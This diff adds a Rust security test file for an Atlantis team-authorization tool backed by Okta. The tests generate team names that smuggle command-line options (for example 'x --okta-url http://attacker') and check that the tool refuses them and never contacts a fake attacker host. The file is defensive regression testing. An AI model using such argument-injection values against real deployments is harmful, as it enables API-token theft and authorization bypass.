@@ -1,0 +1,419 @@
+//! atlantis-authz attacked the way Atlantis calls it (issue #27). [`Atlantis`] does what
+//! Atlantis's team_authz runner does: it joins the command, the `args` of repos.yaml, the
+//! Atlantis command, `owner/repo` and `owner/<team>` for each of the user's teams with spaces,
+//! unquoted, runs that with `sh -c`, exports every variable Atlantis sets, reads stdout and stderr
+//! together from one pipe, and allows only on exit 0 with `pass` as the last line. An attacker's
+//! host is a second fake Okta on loopback.
+
+use std::collections::BTreeMap;
+use std::ffi::OsString;
+use std::path::Path;
+use std::process::Stdio;
+use std::sync::atomic::Ordering;
+use std::time::Duration;
+
+use atlantis_authz::cli::Cli;
+use clap::CommandFactory;
+use tokio::io::AsyncReadExt;
+
+use crate::atlantis::{people, policy, BIN, PROD};
+use crate::okta::{FakeOkta, TOKEN};
+
+/// The variables Atlantis exports to the team_authz command (its external team allowlist runner).
+const ATLANTIS_VARS: &[&str] = &[
+    "BASE_BRANCH_NAME",
+    "BASE_REPO_NAME",
+    "BASE_REPO_OWNER",
+    "COMMENT_ARGS",
+    "HEAD_BRANCH_NAME",
+    "HEAD_COMMIT",
+    "HEAD_REPO_NAME",
+    "HEAD_REPO_OWNER",
+    "PULL_AUTHOR",
+    "PULL_NUM",
+    "PULL_URL",
+    "USER_NAME",
+    "COMMAND_NAME",
+    "PROJECT_NAME",
+    "REPO_ROOT",
+    "REPO_REL_PATH",
+];
+
+/// One team_authz call as Atlantis makes it.
+pub(crate) struct Atlantis {
+    /// `team_authz.args` of repos.yaml.
+    pub(crate) args: Vec<String>,
+    /// The Atlantis server's own environment (credentials, the tool's settings).
+    pub(crate) server_env: Vec<(String, OsString)>,
+    /// The Atlantis command.
+    pub(crate) command: String,
+    /// `owner/repo`.
+    pub(crate) repo: String,
+    /// The user's team names; Atlantis writes each as `owner/<name>`.
+    pub(crate) teams: Vec<String>,
+    /// The variables Atlantis exports (each of [`ATLANTIS_VARS`]).
+    pub(crate) vars: BTreeMap<&'static str, OsString>,
+}
+
+/// What Atlantis sees: the exit code and the combined output.
+pub(crate) struct Outcome {
+    pub(crate) code: Option<i32>,
+    pub(crate) output: String,
+}
+
+impl Outcome {
+    /// The line Atlantis judges: the last of the trimmed combined output.
+    pub(crate) fn last_line(&self) -> &str {
+        self.output.trim().lines().last().unwrap_or("")
+    }
+    /// Atlantis's verdict.
+    pub(crate) fn allowed(&self) -> bool {
+        self.code == Some(0) && self.last_line().eq_ignore_ascii_case("pass")
+    }
+    /// A denial with one `deny:` line last, mentioning each of `words`, and the exit code.
+    pub(crate) fn assert_denied(&self, code: i32, words: &[&str]) {
+        assert!(!self.allowed(), "should deny: {self}");
+        assert!(self.last_line().starts_with("deny: "), "{self}");
+        assert_eq!(self.code, Some(code), "{self}");
+        for w in words {
+            assert!(
+                self.last_line().contains(w),
+                "the reason should mention {w:?}: {self}"
+            );
+        }
+    }
+}
+
+impl std::fmt::Display for Outcome {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let shown: String = self.output.chars().take(4000).collect();
+        write!(f, "exit {:?}, output:\n{shown}", self.code)
+    }
+}
+
+impl Atlantis {
+    /// `user` runs `command` on acme/infra-live; `path` is the project's REPO_REL_PATH (`None`:
+    /// the first, repository-wide check, where Atlantis exports PROJECT_NAME and REPO_REL_PATH
+    /// empty). Set up as the README says: repos.yaml args name the policy, the server's
+    /// environment has the rest.
+    pub(crate) fn new(
+        okta: &FakeOkta,
+        cache: &Path,
+        user: &str,
+        command: &str,
+        path: Option<&str>,
+    ) -> Atlantis {
+        let mut vars: BTreeMap<&'static str, OsString> = BTreeMap::new();
+        for (k, v) in [
+            ("BASE_BRANCH_NAME", "main"),
+            ("BASE_REPO_NAME", "infra-live"),
+            ("BASE_REPO_OWNER", "acme"),
+            ("COMMENT_ARGS", ""),
+            ("HEAD_BRANCH_NAME", "change-vpc"),
+            ("HEAD_COMMIT", "4b825dc642cb6eb9a060e54bf8d69288fbee4904"),
+            ("HEAD_REPO_NAME", "infra-live"),
+            ("HEAD_REPO_OWNER", "acme"),
+            ("PULL_AUTHOR", user),
+            ("PULL_NUM", "42"),
+            ("PULL_URL", "https://github.com/acme/infra-live/pull/42"),
+            ("USER_NAME", user),
+            ("COMMAND_NAME", command),
+            ("PROJECT_NAME", ""),
+            (
+                "REPO_ROOT",
+                "/atlantis-data/repos/acme/infra-live/42/default",
+            ),
+            ("REPO_REL_PATH", path.unwrap_or("")),
+        ] {
+            vars.insert(k, v.into());
+        }
+        if let Some(p) = path {
+            vars.insert("PROJECT_NAME", p.replace('/', "-").into());
+        }
+        assert_eq!(vars.len(), ATLANTIS_VARS.len());
+        Atlantis {
+            args: vec!["--policy".into(), policy().display().to_string()],
+            server_env: vec![
+                ("OKTA_ORG_URL".into(), okta.url.clone().into()),
+                ("OKTA_API_TOKEN".into(), TOKEN.into()),
+                ("ATLANTIS_AUTHZ_CACHE_DIR".into(), cache.as_os_str().into()),
+                // The fake Okta speaks plain http on loopback.
+                ("ATLANTIS_AUTHZ_OKTA_ALLOW_HTTP".into(), "1".into()),
+            ],
+            command: command.into(),
+            repo: "acme/infra-live".into(),
+            teams: vec!["sre".into(), "backend".into()],
+            vars,
+        }
+    }
+
+    /// Set (or replace) a variable of the Atlantis server's environment.
+    pub(crate) fn server(&mut self, name: &str, value: impl Into<OsString>) {
+        self.server_env.retain(|(k, _)| k != name);
+        self.server_env.push((name.into(), value.into()));
+    }
+
+    /// The command line Atlantis builds: "$command $args $atlantis_command $repo $teams".
+    pub(crate) fn command_line(&self) -> String {
+        let owner = self.repo.split('/').next().unwrap_or("");
+        let teams: Vec<String> = self.teams.iter().map(|t| format!("{owner}/{t}")).collect();
+        let mut words = vec![BIN.to_string()];
+        words.extend(self.args.iter().cloned());
+        words.push(self.command.clone());
+        words.push(self.repo.clone());
+        words.push(teams.join(" "));
+        words.join(" ")
+    }
+
+    /// What the tool must take as Atlantis's arguments: the words after the repos.yaml args.
+    pub(crate) fn atlantis_words(&self) -> Vec<String> {
+        let owner = self.repo.split('/').next().unwrap_or("");
+        let mut words = vec![self.command.clone(), self.repo.clone()];
+        for t in &self.teams {
+            words.extend(format!("{owner}/{t}").split(' ').map(str::to_string));
+        }
+        words
+    }
+
+    /// Run it; `None` when it has not finished within `bound` (it is then killed).
+    pub(crate) async fn run_within(&self, bound: Duration) -> Option<Outcome> {
+        let (tx, mut rx) = tokio::net::unix::pipe::pipe().unwrap();
+        let out = tx.into_blocking_fd().unwrap();
+        let err = out.try_clone().unwrap();
+        let mut cmd = tokio::process::Command::new("sh");
+        cmd.arg("-c")
+            .arg(self.command_line())
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .envs(self.server_env.iter().map(|(k, v)| (k, v)))
+            .envs(&self.vars)
+            .stdin(Stdio::null())
+            .stdout(Stdio::from(out))
+            .stderr(Stdio::from(err))
+            .kill_on_drop(true);
+        let mut child = cmd.spawn().unwrap();
+        // Our copies of the write end go, so the read ends when the command's do.
+        drop(cmd);
+        let finished = tokio::time::timeout(bound, async {
+            let mut bytes = Vec::new();
+            rx.read_to_end(&mut bytes).await.unwrap();
+            let status = child.wait().await.unwrap();
+            (status, bytes)
+        })
+        .await;
+        let (status, bytes) = finished.ok()?;
+        Some(Outcome {
+            code: status.code(),
+            output: String::from_utf8_lossy(&bytes).into_owned(),
+        })
+    }
+
+    pub(crate) async fn run(&self) -> Outcome {
+        self.run_within(Duration::from_secs(60))
+            .await
+            .unwrap_or_else(|| panic!("still running after 60 s: {}", self.command_line()))
+    }
+}
+
+/// An attacker's host: a fake Okta that answers without checking credentials, where `user` is
+/// in the production group.
+async fn attacker(user: &str) -> FakeOkta {
+    let evil = FakeOkta::start(
+        &[(
+            user,
+            "attacker@example.com",
+            "ACTIVE",
+            &["everyone", "engineering", "infra-prod-admins"],
+        )],
+        2,
+    )
+    .await;
+    evil.behaviour.no_auth.store(true, Ordering::SeqCst);
+    evil
+}
+
+fn audit_lines(log: &Path) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(log)
+        .unwrap_or_default()
+        .lines()
+        .map(|l| serde_json::from_str(l).unwrap())
+        .collect()
+}
+
+/// Every way an option or subcommand of the tool's own command line could be written in a
+/// team name, generated from its clap definition (so a new flag is covered when it is added):
+/// each long, short and alias, with its value as a separate word and attached (`--x=v`, `-xv`),
+/// each subcommand name, and `--`. Each team starts with a harmless word, as a real one would
+/// (Atlantis writes it as `owner/<team>`, so only later words can look like options).
+fn hostile_teams(value_for: &dyn Fn(&clap::Arg) -> String) -> Vec<String> {
+    fn walk(cmd: &clap::Command, value_for: &dyn Fn(&clap::Arg) -> String, out: &mut Vec<String>) {
+        for arg in cmd.get_arguments().filter(|a| !a.is_positional()) {
+            let takes_value = arg.get_num_args().is_some_and(|n| n.takes_values());
+            let v = value_for(arg);
+            let longs = arg
+                .get_long()
+                .into_iter()
+                .chain(arg.get_all_aliases().unwrap_or_default());
+            for long in longs {
+                if takes_value {
+                    out.push(format!("x --{long} {v}"));
+                    out.push(format!("x --{long}={v}"));
+                    out.push(format!("x -- --{long} {v}"));
+                } else {
+                    out.push(format!("x --{long}"));
+                    out.push(format!("x --{long}=true"));
+                }
+            }
+            let shorts = arg
+                .get_short()
+                .into_iter()
+                .chain(arg.get_all_short_aliases().unwrap_or_default());
+            for short in shorts {
+                if takes_value {
+                    out.push(format!("x -{short} {v}"));
+                    out.push(format!("x -{short}{v}"));
+                } else {
+                    out.push(format!("x -{short}"));
+                }
+            }
+        }
+        for sub in cmd.get_subcommands() {
+            for name in std::iter::once(sub.get_name()).chain(sub.get_all_aliases()) {
+                out.push(format!("x {name}"));
+                out.push(format!("x {name} --help"));
+            }
+            walk(sub, value_for, out);
+        }
+    }
+    let mut cmd = Cli::command();
+    cmd.build();
+    let mut out = vec!["x --".to_string(), "x -- x".to_string()];
+    walk(&cmd, value_for, &mut out);
+    out.sort();
+    out.dedup();
+    out
+}
+
+/// Finding 1 (critical): a team named like `x --okta-url http://attacker` made the tool ask the
+/// attacker for the user's groups (and send it the API token). Nothing after the Atlantis
+/// command name is an option, whatever it holds: with the repos.yaml args as the README showed
+/// them before, and as it shows them now (ending in `--`).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn no_option_or_subcommand_can_be_smuggled_in_through_a_team_name() {
+    let okta = people().await;
+    let evil = attacker("ana").await;
+    let dir = tempfile::tempdir().unwrap();
+    let cache = dir.path().join("cache");
+    let permissive = dir.path().join("permissive.yaml");
+    std::fs::write(
+        &permissive,
+        "identity: {github_attribute: githubUsername}\ndefault: {allow_groups: [engineering]}\nrules: []\n",
+    )
+    .unwrap();
+    let key = dir.path().join("key.pem");
+    std::fs::write(&key, "not a key").unwrap();
+    let hostile_audit = dir.path().join("hostile-audit.jsonl");
+    let hostile_cache = dir.path().join("hostile-cache");
+    let value_for = |arg: &clap::Arg| -> String {
+        match arg.get_id().as_str() {
+            "okta_url" => evil.url.clone(),
+            "policy" => permissive.display().to_string(),
+            "audit_log" => hostile_audit.display().to_string(),
+            "cache_dir" => hostile_cache.display().to_string(),
+            "okta_private_key" => key.display().to_string(),
+            "okta_token" => TOKEN.to_string(),
+            "user" => "priya".to_string(),
+            "repo" => "acme/infra-live".to_string(),
+            "command" => "apply".to_string(),
+            _ if arg
+                .get_value_names()
+                .is_some_and(|n| n.iter().any(|n| n == "DURATION")) =>
+            {
+                "3650d".to_string()
+            }
+            _ => "x".to_string(),
+        }
+    };
+    let teams = hostile_teams(&value_for);
+    // The generator saw the flags that matter (a sanity check on the generator, not a list).
+    for must in [
+        "--okta-url",
+        "--policy",
+        "--cache-ttl",
+        "--audit-log",
+        "--help",
+        "-h",
+        "--version",
+    ] {
+        assert!(
+            teams.iter().any(|t| t.split(' ').any(|w| w == must)),
+            "{must} not generated: {teams:?}"
+        );
+    }
+    for must in ["x check-policy", "x explain", "x help"] {
+        assert!(teams.iter().any(|t| t == must), "{must} not generated");
+    }
+
+    let audit = dir.path().join("audit.jsonl");
+    let mut failures = Vec::new();
+    for args_end_with_escape in [false, true] {
+        for team in &teams {
+            let mut a = Atlantis::new(&okta, &cache, "ana", "apply", Some(PROD));
+            a.server("ATLANTIS_AUTHZ_AUDIT_LOG", audit.as_os_str());
+            if args_end_with_escape {
+                a.args.push("--".into());
+            }
+            a.teams = vec!["sre".into(), team.clone()];
+            let before = audit_lines(&audit).len();
+            let r = a.run().await;
+            let lines = audit_lines(&audit);
+            let took = (lines.len() == before + 1).then(|| lines[before]["atlantis_args"].clone());
+            let want = serde_json::json!(a.atlantis_words());
+            if r.allowed() || !r.last_line().starts_with("deny: ") || took.as_ref() != Some(&want) {
+                failures.push(format!(
+                    "team {team:?} (args end with --: {args_end_with_escape}): {}; the tool took as Atlantis's arguments {took:?}, not {want}",
+                    r.last_line()
+                ));
+            }
+        }
+    }
+    assert!(
+        failures.is_empty(),
+        "{} of {} hostile team names got through:\n{}",
+        failures.len(),
+        2 * teams.len(),
+        failures.join("\n")
+    );
+    assert_eq!(
+        evil.requests.load(Ordering::SeqCst),
+        0,
+        "the attacker's host was asked; it saw {:?}",
+        evil.behaviour.auth_seen.lock().unwrap()
+    );
+    assert!(!hostile_audit.exists(), "a team chose the audit log");
+    assert!(!hostile_cache.exists(), "a team chose the cache");
+}
+
+/// Finding 1, the guard this tool adds: a team word outside the allowed characters (or one
+/// that starts with `-`) is refused with a line that says which and why, before Okta is asked.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn team_words_outside_the_allowed_characters_are_refused() {
+    let okta = people().await;
+    let cache = tempfile::tempdir().unwrap();
+    for team in ["x --okta-url=http://127.0.0.1:1", "x -h", "a+b", "ops:eu"] {
+        let mut a = Atlantis::new(&okta, cache.path(), "priya", "apply", Some(PROD));
+        a.teams = vec![team.into()];
+        let r = a.run().await;
+        r.assert_denied(2, &["team", "rename"]);
+    }
+    assert_eq!(okta.requests.load(Ordering::SeqCst), 0, "Okta was asked");
+    // Names with spaces and the usual punctuation still work.
+    let mut a = Atlantis::new(&okta, cache.path(), "priya", "apply", Some(PROD));
+    a.teams = vec![
+        "Platform Team".into(),
+        "infra-prod_admins.eu".into(),
+        "Équipe".into(),
+    ];
+    let r = a.run().await;
+    assert!(r.allowed(), "{r}");
+}
